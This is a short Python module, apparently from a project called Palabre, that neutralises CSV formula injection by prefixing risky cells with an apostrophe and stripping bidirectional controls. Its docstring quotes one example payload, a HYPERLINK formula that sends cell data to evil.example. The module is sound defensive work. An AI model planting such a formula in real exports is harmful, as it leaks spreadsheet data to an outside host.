"""Cells of the CSV files Palabre writes, safe to open in a spreadsheet.

A text cell that starts with = + - @ (or a tab or carriage return before one) is read by Excel,
LibreOffice and Google Sheets as a formula: a commenter's display name like
`=HYPERLINK("https://evil.example/?"&A1, "Camille")` would run in the analyst's spreadsheet. Such
text is written with a leading apostrophe, which spreadsheets show as text (OWASP's advice for CSV
injection). Numbers stay numbers, negative ones included.
"""

from __future__ import annotations

from typing import Any

from palabre.bidi import strip_controls

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with a text that a spreadsheet would run as a formula written as text, and
    without bidirectional controls (palabre.bidi: a name must not turn the row around)."""
    if isinstance(value, str):
        value = strip_controls(value)
        if value.startswith(FORMULA_STARTS):
            return "'" + value
    return value
